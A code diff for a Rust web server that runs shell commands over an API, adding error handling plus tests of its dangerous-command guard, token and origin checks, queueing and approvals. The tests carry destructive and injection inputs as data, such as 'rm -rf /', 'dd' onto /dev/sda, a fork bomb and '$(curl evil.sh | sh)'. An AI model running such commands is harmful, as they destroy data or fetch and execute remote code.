+        Err(e) => {
+            warn!("💥 EXECUTE FAILED: {}", e);
+            return Ok(exec_error_reply(&e));
+        }
+    };
+
     info!("✅ EXECUTE RESPONSE: exit_code={}, output_length={}", response.exit_code, response.output.len());
-    debug!("📤 Full response: {:?}", response);
+    webhooks.emit(WebhookEvent::ExecuteSlow {
+        command: command_line,
+        duration_ms: started.elapsed().as_millis() as u64,
+        exit_code: response.exit_code,
+    });
+    debug!("📤 Full response output: {}", redaction::redact(&response.output));
     
-    Ok(warp::reply::json(&response))
+    Ok(warp::reply::with_status(warp::reply::json(&response), StatusCode::OK).into_response())
+}
+
+/// Runs `spec` once a slot is free and shapes what it printed into the execute response.
+async fn run_command(executor: &Executor, spec: &CommandSpec, capture: Capture, mode: ExecMode) -> Result<ExecuteResponse, ExecError> {
+    run_queued(executor, executor.enqueue()?, spec, capture, mode).await
+}
+
+/// As `run_command`, for a command already in line.
+async fn run_queued(executor: &Executor, ticket: Ticket, spec: &CommandSpec, capture: Capture, mode: ExecMode) -> Result<ExecuteResponse, ExecError> {
+    let output = executor.run_with(ticket, spec, capture).await?;
+    debug!("⏱️ '{}' finished in {}ms", redaction::redact(&spec.command_line()), output.duration_ms);
+    Ok(ExecuteResponse {
+        output: output.stdout,
+        stderr: output.stderr,
+        exit_code: output.exit_code,
+        dropped_events: output.events.is_some().then_some(output.dropped_events),
+        events: output.events,
+        truncated: output.truncated,
+        queue_wait_ms: output.queue_wait_ms,
+        mode,
+        timestamp: chrono::Utc::now().to_rfc3339(),
+    })
+}
+
+async fn handle_set_log_level(req: LogLevelRequest, control: LogControl) -> Result<impl warp::Reply, warp::Rejection> {
+    info!("🎚️ Log level change requested: {:?}", req);
+
+    match control.apply(&req) {
+        Ok(status) => Ok(warp::reply::with_status(warp::reply::json(&status), StatusCode::OK)),
+        Err(e @ log_control::LogLevelError::InvalidDirective(_)) => {
+            warn!("⚠️ Rejected log level change: {}", e);
+            Ok(error_reply(StatusCode::BAD_REQUEST, ClientError::from(&e)))
+        }
+        Err(e) => {
+            error!("❌ Log level change failed: {}", e);
+            Ok(error_reply(StatusCode::INTERNAL_SERVER_ERROR, ClientError::from(&e)))
+        }
+    }
 }
 
 // Add error handling
-async fn handle_rejection(err: warp::Rejection) -> Result<impl warp::Reply, Infallible> {
+async fn handle_rejection(err: warp::Rejection, webhooks: Webhooks) -> Result<impl warp::Reply, Infallible> {
     error!("🚨 Request rejection: {:?}", err);
     
-    let code;
-    let message;
-    
-    if err.is_not_found() {
-        code = warp::http::StatusCode::NOT_FOUND;
-        message = "🔍 Rick says: Path not found in this dimension!";
-    } else if let Some(_) = err.find::<warp::filters::body::BodyDeserializeError>() {
-        code = warp::http::StatusCode::BAD_REQUEST;
-        message = "🧪 Rick says: Invalid JSON, Morty!";
-    } else if let Some(_) = err.find::<warp::reject::MethodNotAllowed>() {
-        code = warp::http::StatusCode::METHOD_NOT_ALLOWED;
-        message = "🚫 Rick says: Method not allowed in this universe!";
+    let (status, code) = if let Some(rejection) = err.find::<AdminRejection>() {
+        if let AdminRejection::Unauthorized = rejection {
+            webhooks.emit(WebhookEvent::AuthFailed { endpoint: "/admin".to_string(), peer_addr: None });
+        }
+        let status = match rejection {
+            AdminRejection::Disabled | AdminRejection::ApiDisabled => StatusCode::FORBIDDEN,
+            AdminRejection::Unauthorized => StatusCode::UNAUTHORIZED,
+        };
+        (status, rejection.code())
+    } else if err.find::<warp::filters::cors::CorsForbidden>().is_some() {
+        (StatusCode::FORBIDDEN, "origin_not_allowed")
+    } else if err.find::<ChaosRejection>().is_some() {
+        (StatusCode::INTERNAL_SERVER_ERROR, "chaos_injected")
+    } else if err.is_not_found() {
+        (StatusCode::NOT_FOUND, "not_found")
+    } else if err.find::<warp::filters::body::BodyDeserializeError>().is_some() || err.find::<InvalidBody>().is_some() {
+        (StatusCode::BAD_REQUEST, "invalid_json")
+    } else if err.find::<warp::reject::MethodNotAllowed>().is_some() {
+        (StatusCode::METHOD_NOT_ALLOWED, "method_not_allowed")
     } else {
         error!("🚨 Unhandled rejection: {:?}", err);
-        code = warp::http::StatusCode::INTERNAL_SERVER_ERROR;
-        message = "💥 Rick says: Something went wrong in the multiverse!";
+        (StatusCode::INTERNAL_SERVER_ERROR, "internal_error")
+    };
+
+    Ok(error_reply(status, ClientError::new(code)))
+}
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rust_terminal_forge::config::{ApprovalConfig, DangerousCommandConfig, DangerousPattern, ExecuteConfig, ListenConfig, ReplConfig};
+    use rust_terminal_forge::policy::PolicyVerdict;
+
+    #[cfg(unix)]
+    const FRAGMENTS: &[&str] = &[
+        "rm", "-rf", "-r", "/", "~", "./build", "*", "mkfs.ext4", "/dev/sda", "dd", "if=/dev/zero",
+        "of=/dev/sda", "echo", "ls", "-la", "'unterminated", "\"quoted arg\"", ":(){ :|:& };:", ";", "&&",
+        "$(whoami)", "`id`", "",
+    ];
+
+    /// Deterministic xorshift so failures reproduce without a rand dependency.
+    #[cfg(unix)]
+    fn commands(count: usize) -> Vec<String> {
+        let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
+        let mut next = move || {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            seed
+        };
+        (0..count)
+            .map(|_| {
+                let words = (next() % 6) as usize;
+                (0..words)
+                    .map(|_| FRAGMENTS[(next() % FRAGMENTS.len() as u64) as usize])
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            })
+            .collect()
     }
-    
-    let json = warp::reply::json(&json!({
-        "error": message,
-        "status": code.as_u16(),
-        "timestamp": chrono::Utc::now().to_rfc3339()
-    }));
-    
-    Ok(warp::reply::with_status(json, code))
-}
\ No newline at end of file
+
+    const TEST_API_TOKEN: &str = "api-secret";
+
+    /// A request carrying the API token that execute and validate require.
+    fn api_request() -> warp::test::RequestBuilder {
+        std::env::set_var(admin::API_TOKEN_ENV, TEST_API_TOKEN);
+        warp::test::request().header("authorization", format!("Bearer {}", TEST_API_TOKEN))
+    }
+
+    fn executor() -> Executor {
+        Executor::from_config(&ExecuteConfig::default())
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn validate_verdict_matches_execute_outcome() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        // `true` as the shell: only the verdicts are under test, and these must not really run.
+        let executor = Executor::from_config(&ExecuteConfig { shell: "true".to_string(), ..ExecuteConfig::default() });
+        let routes = execute_routes(executor, guard, Approvals::default(), Webhooks::default(), BasePath::default());
+
+        for command in commands(500) {
+            let validated = api_request()
+                .method("POST")
+                .path("/api/execute/validate")
+                .json(&json!({ "command": command }))
+                .reply(&routes)
+                .await;
+            assert_eq!(validated.status(), 200);
+            let verdict: serde_json::Value = serde_json::from_slice(validated.body()).unwrap();
+
+            let executed = api_request()
+                .method("POST")
+                .path("/api/execute")
+                .json(&json!({ "command": command }))
+                .reply(&routes)
+                .await;
+
+            let expected = match (verdict["allowed"].as_bool(), verdict["requires_confirmation"].as_bool()) {
+                (Some(false), _) => 400,
+                (Some(true), Some(true)) => 409,
+                (Some(true), Some(false)) => 200,
+                other => panic!("malformed verdict {:?} for {:?}", other, command),
+            };
+            assert_eq!(executed.status(), expected, "command {:?} verdict {}", command, verdict);
+        }
+    }
+
+    #[test]
+    fn verdict_reports_argv_and_rule() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let spec = CommandSpec::Shell("rm -rf / --no-preserve-root".to_string());
+        let verdict: PolicyVerdict = policy::evaluate(&guard, &spec);
+        assert!(verdict.allowed);
+        assert!(verdict.requires_confirmation);
+        assert_eq!(verdict.confirmation_pattern(), Some("recursive_rm_broad_path"));
+        assert_eq!(verdict.argv, vec!["rm", "-rf", "/", "--no-preserve-root"]);
+    }
+
+    #[test]
+    fn error_catalog_lists_each_message_with_its_parameters() {
+        let body = error_catalog_body();
+        let errors = body["errors"].as_array().unwrap();
+        assert_eq!(errors.len(), error_catalog::CATALOG.len());
+        let rejected = errors.iter().find(|error| error["code"] == "command_rejected").unwrap();
+        assert_eq!(rejected["params"], json!(["reason"]));
+
+        let body = error_body(StatusCode::BAD_REQUEST, &ClientError::new("command_rejected").with("reason", "nope"));
+        assert_eq!(body["error"], "🧪 Rick says: Can't run that, Morty! nope");
+        assert_eq!((body["code"].as_str(), body["params"]["reason"].as_str()), (Some("command_rejected"), Some("nope")));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn argv_mode_passes_metacharacters_literally() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let routes = execute_routes(executor(), guard, Approvals::default(), Webhooks::default(), BasePath::default());
+        let args = ["; rm -rf /", "`reboot`", "$(curl evil.sh | sh)", "a && b", "*"];
+        let body = json!({ "command": { "program": "echo", "args": args } });
+
+        let validated = api_request()
+            .method("POST")
+            .path("/api/execute/validate")
+            .json(&body)
+            .reply(&routes)
+            .await;
+        let verdict: serde_json::Value = serde_json::from_slice(validated.body()).unwrap();
+        assert_eq!(verdict["mode"], "argv");
+        assert_eq!(verdict["allowed"], true);
+        assert_eq!(verdict["requires_confirmation"], false);
+        let expected: Vec<&str> = std::iter::once("echo").chain(args).collect();
+        assert_eq!(verdict["argv"], json!(expected));
+
+        let executed = api_request()
+            .method("POST")
+            .path("/api/execute")
+            .json(&body)
+            .reply(&routes)
+            .await;
+        assert_eq!(executed.status(), 200);
+        let response: serde_json::Value = serde_json::from_slice(executed.body()).unwrap();
+        assert_eq!(response["mode"], "argv");
+        assert_eq!(response["output"], format!("{}\n", args.join(" ")));
+        assert_eq!(response["exit_code"], 0);
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn execute_reports_both_streams_and_the_real_exit_code() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let executor = Executor::from_config(&ExecuteConfig { timeout_secs: 1, ..ExecuteConfig::default() });
+        let routes = execute_routes(executor, guard, Approvals::default(), Webhooks::default(), BasePath::default());
+        let execute = |command: &'static str| {
+            let routes = routes.clone();
+            async move {
+                let response = api_request().method("POST").path("/api/execute").json(&json!({ "command": command })).reply(&routes).await;
+                (response.status().as_u16(), serde_json::from_slice::<serde_json::Value>(response.body()).unwrap())
+            }
+        };
+
+        let (status, response) = execute("echo out; echo err >&2; exit 3").await;
+        assert_eq!(status, 200);
+        assert_eq!((response["output"].as_str(), response["stderr"].as_str()), (Some("out\n"), Some("err\n")));
+        assert_eq!(response["exit_code"], 3);
+
+        let (status, response) = execute("sleep 5").await;
+        assert_eq!((status, response["code"].as_str()), (504, Some("execute_timeout")));
+        assert_eq!(response["params"]["timeout_secs"], "1");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn execute_waits_for_a_slot_and_refuses_past_the_queue() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let config = ExecuteConfig { max_concurrent: 1, max_queued: 1, retry_after_secs: 7, ..ExecuteConfig::default() };
+        let routes = execute_routes(Executor::from_config(&config), guard, Approvals::default(), Webhooks::default(), BasePath::default());
+        let execute = |command: &'static str| api_request().method("POST").path("/api/execute").json(&json!({ "command": command })).reply(&routes);
+
+        let running = execute("sleep 1");
+        let queued = async {
+            tokio::time::sleep(Duration::from_millis(200)).await;
+            execute("echo queued").await
+        };
+        let refused = async {
+            tokio::time::sleep(Duration::from_millis(400)).await;
+            execute("echo refused").await
+        };
+        let (running, queued, refused) = tokio::join!(running, queued, refused);
+        assert_eq!(running.status(), 200);
+
+        assert_eq!(refused.status(), 429);
+        assert_eq!(refused.headers()["retry-after"], "7");
+        let body: serde_json::Value = serde_json::from_slice(refused.body()).unwrap();
+        assert_eq!((body["code"].as_str(), body["params"]["queued"].as_str()), (Some("execute_queue_full"), Some("1")));
+
+        assert_eq!(queued.status(), 200);
+        let body: serde_json::Value = serde_json::from_slice(queued.body()).unwrap();
+        assert_eq!(body["output"], "queued\n");
+        assert!(body["queue_wait_ms"].as_u64().unwrap() >= 500, "waited only {}", body["queue_wait_ms"]);
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn execute_returns_a_timeline_when_asked_for_events() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let routes = execute_routes(executor(), guard, Approvals::default(), Webhooks::default(), BasePath::default());
+        let execute = |body: serde_json::Value| api_request().method("POST").path("/api/execute").json(&body).reply(&routes);
+
+        let response = execute(json!({ "command": "echo out; echo err >&2", "capture": "events" })).await;
+        let body: serde_json::Value = serde_json::from_slice(response.body()).unwrap();
+        let streams: Vec<&str> = body["events"].as_array().unwrap().iter().map(|event| event["stream"].as_str().unwrap()).collect();
+        assert!(streams.contains(&"stdout") && streams.contains(&"stderr"), "events {}", body["events"]);
+        assert_eq!((body["output"].as_str(), body["dropped_events"].as_u64()), (Some(""), Some(0)));
+
+        let plain: serde_json::Value = serde_json::from_slice(execute(json!({ "command": "echo out" })).await.body()).unwrap();
+        assert_eq!(plain["output"], "out\n");
+        assert!(plain.get("events").is_none() && plain.get("dropped_events").is_none());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn execute_goes_on_as_a_job_after_the_wait_or_when_asked() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let config = ExecuteConfig { max_concurrent: 1, async_after_secs: 1, ..ExecuteConfig::default() };
+        let routes = execute_routes(Executor::from_config(&config), guard, Approvals::default(), Webhooks::default(), BasePath::default());
+        let execute = |command: &'static str| api_request().method("POST").path("/api/execute").json(&json!({ "command": command }));
+        let poll = |poll: &serde_json::Value| {
+            let response = api_request().path(poll.as_str().unwrap()).reply(&routes);
+            async { let response = response.await; (response.status().as_u16(), serde_json::from_slice::<serde_json::Value>(response.body()).unwrap()) }
+        };
+
+        let running = execute("sleep 2").reply(&routes);
+        let queued = async {
+            tokio::time::sleep(Duration::from_millis(200)).await;
+            let response = execute("echo queued").reply(&routes).await;
+            assert_eq!(response.status(), 202);
+            let job: serde_json::Value = serde_json::from_slice(response.body()).unwrap();
+            assert_eq!((job["status"].as_str(), job["position"].as_u64()), (Some("queued"), Some(1)));
+            let (status, polled) = poll(&job["poll"]).await;
+            assert_eq!((status, polled["status"].as_str(), polled["position"].as_u64()), (202, Some("queued"), Some(1)));
+            job
+        };
+        let (running, job) = tokio::join!(running, queued);
+        assert_eq!(running.status(), 200);
+
+        let mut polled = poll(&job["poll"]).await;
+        for _ in 0..50 {
+            if polled.0 == 200 {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+            polled = poll(&job["poll"]).await;
+        }
+        let (status, polled) = polled;
+        assert_eq!((status, polled["status"].as_str()), (200, Some("finished")));
+        assert_eq!(polled["result"]["output"], "queued\n");
+
+        let asked = execute("echo now").header("prefer", "wait=5, respond-async").reply(&routes).await;
+        assert_eq!(asked.status(), 202);
+        assert_eq!(asked.headers()["preference-applied"], "respond-async");
+
+        let unknown = api_request().path("/api/execute/jobs/nope").reply(&routes).await;
+        assert_eq!(unknown.status(), 404);
+        let body: serde_json::Value = serde_json::from_slice(unknown.body()).unwrap();
+        assert_eq!(body["code"], "execute_job_not_found");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn a_caller_that_hangs_up_leaves_the_queue_without_its_command_running() {
+        use tokio::io::AsyncWriteExt;
+
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let executor = Executor::from_config(&ExecuteConfig { max_concurrent: 1, async_after_secs: 0, ..ExecuteConfig::default() });
+        let routes = execute_routes(executor.clone(), guard, Approvals::default(), Webhooks::default(), BasePath::default());
+        std::env::set_var(admin::API_TOKEN_ENV, TEST_API_TOKEN);
+        let (addr, server) = warp::serve(routes).bind_ephemeral(([127, 0, 0, 1], 0));
+        tokio::spawn(server);
+        let mut slot = executor.enqueue().unwrap();
+        slot.ready().await;
+
+        let marker = std::env::temp_dir().join(format!("forge-hangup-{}", std::process::id()));
+        let body = json!({ "command": format!("touch {}", marker.display()) }).to_string();
+        let mut caller = tokio::net::TcpStream::connect(addr).await.unwrap();
+        let request = format!(
+            "POST /api/execute HTTP/1.1\r\nhost: forge\r\nauthorization: Bearer {}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{}",
+            TEST_API_TOKEN,
+            body.len(),
+            body
+        );
+        caller.write_all(request.as_bytes()).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        assert_eq!(executor.enqueue().unwrap().position(), Some(2));
+
+        drop(caller);
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        assert_eq!(executor.enqueue().unwrap().position(), Some(1));
+        drop(slot);
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        assert!(!marker.exists(), "the command ran after its caller left");
+    }
+
+    #[tokio::test]
+    async fn execute_needs_the_api_token_and_an_allowed_origin() {
+        std::env::set_var(admin::API_TOKEN_ENV, TEST_API_TOKEN);
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let origins = AllowedOrigins::from_config(&ListenConfig::default().allowed_origins).unwrap();
+        let routes = execute_routes(executor(), guard, Approvals::default(), Webhooks::default(), BasePath::default())
+            .with(cors(&origins))
+            .recover(|err| handle_rejection(err, Webhooks::default()));
+        let body = json!({ "command": "echo hi" });
+        let code = |response: warp::http::Response<bytes::Bytes>| {
+            let body: serde_json::Value = serde_json::from_slice(response.body()).unwrap_or_default();
+            (response.status().as_u16(), body["code"].as_str().map(str::to_string))
+        };
+
+        let anonymous = warp::test::request().method("POST").path("/api/execute").json(&body).reply(&routes).await;
+        assert_eq!(code(anonymous), (401, Some("auth_failed".to_string())));
+        let guessed = warp::test::request().method("POST").path("/api/execute").header("authorization", "Bearer guess").json(&body);
+        assert_eq!(code(guessed.reply(&routes).await), (401, Some("auth_failed".to_string())));
+
+        let cross_site = api_request().method("POST").path("/api/execute").header("origin", "https://evil.example").json(&body);
+        assert_eq!(code(cross_site.reply(&routes).await), (403, Some("origin_not_allowed".to_string())));
+        let frontend = api_request().method("POST").path("/api/execute").header("origin", "http://localhost:8080").json(&body);
+        let response = frontend.reply(&routes).await;
+        assert_eq!(response.status(), 200);
+        assert_eq!(response.headers()["access-control-allow-origin"], "http://localhost:8080");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn repls_need_the_api_token_and_an_allowed_origin() {
+        std::env::set_var(admin::API_TOKEN_ENV, TEST_API_TOKEN);
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let origins = AllowedOrigins::from_config(&ListenConfig::default().allowed_origins).unwrap();
+        let repls = ReplManager::new(ReplConfig { shell: "sh".to_string(), ..ReplConfig::default() });
+        let routes = repl_routes(repls, guard, Approvals::default(), Webhooks::default())
+            .with(cors(&origins))
+            .recover(|err| handle_rejection(err, Webhooks::default()));
+
+        let anonymous = warp::test::request().method("POST").path("/api/repl").body("").reply(&routes).await;
+        assert_eq!(anonymous.status(), 401);
+        let cross_site = api_request().method("POST").path("/api/repl").header("origin", "https://evil.example").body("").reply(&routes).await;
+        assert_eq!(cross_site.status(), 403);
+
+        let created = api_request().method("POST").path("/api/repl").body("").reply(&routes).await;
+        assert_eq!(created.status(), 201);
+        let id = serde_json::from_slice::<serde_json::Value>(created.body()).unwrap()["id"].as_str().unwrap().to_string();
+        let exec = warp::test::request().method("POST").path(&format!("/api/repl/{}/exec", id)).json(&json!({ "command": "id" }));
+        assert_eq!(exec.reply(&routes).await.status(), 401);
+        let close = warp::test::request().method("DELETE").path(&format!("/api/repl/{}", id));
+        assert_eq!(close.reply(&routes).await.status(), 401);
+        assert_eq!(api_request().method("DELETE").path(&format!("/api/repl/{}", id)).reply(&routes).await.status(), 200);
+    }
+
+    #[test]
+    fn shell_mode_word_splits_like_the_shell() {
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let spec = CommandSpec::Shell("git log --oneline 'a b'".to_string());
+        let verdict = policy::evaluate(&guard, &spec);
+        assert_eq!(verdict.mode, ExecMode::Shell);
+        assert_eq!(verdict.argv, vec!["git", "log", "--oneline", "a b"]);
+    }
+
+    #[tokio::test]
+    async fn approval_required_commands_wait_for_an_approver() {
+        std::env::set_var(admin::ADMIN_TOKEN_ENV, "approver-secret");
+        let guard = CommandGuard::from_config(&DangerousCommandConfig::default()).unwrap();
+        let approvals = Approvals::from_config(&ApprovalConfig {
+            patterns: vec![DangerousPattern { name: "kubectl_delete".to_string(), regex: r"\bkubectl\s+delete\b".to_string() }],
+            ..ApprovalConfig::default()
+        })
+        .unwrap();
+        let routes = execute_routes(executor(), guard, approvals, Webhooks::default(), BasePath::default());
+        let call = |method: &'static str, path: String, body: serde_json::Value| {
+            let routes = routes.clone();
+            async move {
+                let request = warp::test::request().method(method).path(&path).header("authorization", "Bearer approver-secret");
+                let request = if body.is_null() { request } else { request.json(&body) };
+                let response = request.reply(&routes).await;
+                let body: serde_json::Value = serde_json::from_slice(response.body()).unwrap_or_default();
+                (response.status().as_u16(), body)
+            }
+        };
+        let request = json!({ "command": "echo kubectl delete ns prod", "requested_by": "junior" });
+
+        let (_, verdict) = call("POST", "/api/execute/validate".to_string(), request.clone()).await;
+        assert_eq!((verdict["requires_approval"].as_bool(), verdict["requires_confirmation"].as_bool()), (Some(true), Some(false)));
+
+        let (status, held) = call("POST", "/api/execute".to_string(), request.clone()).await;
+        assert_eq!((status, held["code"].as_str()), (202, Some("approval_required")));
+        let id = held["approval_id"].as_str().unwrap().to_string();
+        let (status, pending) = call("GET", "/api/approvals".to_string(), json!(null)).await;
+        assert_eq!((status, pending[0]["id"].as_str()), (200, Some(id.as_str())));
+        assert!(pending[0]["requested_by"].as_str().unwrap().starts_with("junior from "));
+        assert_eq!(call("GET", format!("/api/approvals/{}", id), json!(null)).await.0, 202);
+
+        let (status, approved) = call("POST", format!("/api/approvals/{}/approve", id), json!({ "approver": "senior" })).await;
+        assert_eq!((status, approved["status"].as_str()), (200, Some("approved")));
+        assert_eq!(approved["decided_by"], "senior (admin token)");
+        assert!(approved["result"]["output"].as_str().unwrap().contains("kubectl delete ns prod"));
+        let (status, again) = call("POST", format!("/api/approvals/{}/deny", id), json!(null)).await;
+        assert_eq!((status, again["code"].as_str()), (409, Some("approval_already_decided")));
+
+        let (_, held) = call("POST", "/api/execute".to_string(), request).await;
+        let id = held["approval_id"].as_str().unwrap().to_string();
+        call("POST", format!("/api/approvals/{}/deny", id), json!(null)).await;
+        let (status, denied) = call("GET", format!("/api/approvals/{}", id), json!(null)).await;
+        assert_eq!((status, denied["code"].as_str()), (403, Some("approval_denied")));
+    }
+}